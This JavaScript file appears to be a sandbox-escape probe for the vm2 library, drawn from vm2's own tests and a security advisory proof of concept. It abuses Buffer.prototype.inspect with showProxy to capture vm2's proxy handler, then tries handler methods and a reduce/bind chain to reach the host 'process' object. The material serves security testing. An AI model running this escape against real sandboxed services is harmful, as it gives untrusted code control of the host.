// Source: vm2 test/vm.js "Buffer.prototype.inspect handler exposure via showProxy attack",
// "doPreventExtensions not accessible via handler exposure through showProxy", "getFactory not
// accessible ...", "Handler get() direct call with forged target ..." and
// test/ghsa/GHSA-v37h-5mfm-c47c/harvest-history.js PoCs #1-#6; docs/ATTACKS.md Category 9.
// Tried: duck-type an object so Buffer.prototype.slice calls Buffer.prototype.inspect with attacker
// inspect options (showProxy: true); a `stylize` callback then sees vm2's proxy handler in
// `this.seen[1]` and calls objectWrapper / getObject / fromOtherWithContext / doPreventExtensions /
// getFactory / get on it to unwrap a host function.
const out = {};
const obj = { subarray: Buffer.prototype.inspect, slice: Buffer.prototype.slice, hexSlice: () => '', l: { __proto__: null } };
let handler;
try {
  obj.slice(20, {
    showHidden: true, showProxy: true, depth: 10,
    stylize(a) {
      out.stylize = (out.stylize || 0) + 1;
      const h = this.seen && this.seen[1];
      if (h && !handler) handler = h;
      __wr.use(this, 'inspect context');
      return a;
    },
  });
} catch (e) { out.slice = String(e.message).slice(0, 100); }
out.handler = typeof handler;
if (handler) {
  const probes = {
    objectWrapper: () => { handler.objectWrapper().x = obj.slice; return obj.l.x; },
    getObject: () => { handler.getObject().x = obj.slice; return obj.l.x; },
    fromOtherWithContext: () => handler.fromOtherWithContext({ __proto__: null, x: obj.slice }).x,
    doPreventExtensions: () => { const f = {}; const o = { __proto__: null }; Object.defineProperty(o, 'x', { value: { __proto__: null, x: obj.slice } }); handler.doPreventExtensions(f, o); return f.x && f.x.x; },
    getFactory: () => handler.getFactory()(() => ({ __proto__: null, x: obj.slice })).apply(null, null, []).x,
    get: () => handler.get(obj.slice, 'constructor'),
    getPrototypeOf: () => handler.getPrototypeOf(Buffer),
  };
  for (const [name, run] of Object.entries(probes)) {
    try { const got = run(); out[name] = typeof got; __wr.use(got, 'handler.' + name); } catch (e) { out[name] = String(e.message).slice(0, 80); }
  }
  try {
    const g = ({}).__lookupGetter__;
    const a = Buffer.apply;
    const p = a.apply(g, [Buffer, ['__proto__']]);
    const ho = p.call(p.call(p.call(p.call(Buffer.of())))).constructor;
    const b = ho.entries({});
    b[0] = [handler, [obj.slice, 'constructor']];
    b[1] = [undefined, ['return process']];
    __wr.use(b.reduce(a.apply(a.bind, [a, [a]]), handler.get)(), 'reduce/bind chain');
  } catch (e) { out.reduce = String(e.message).slice(0, 80); }
}
return out;
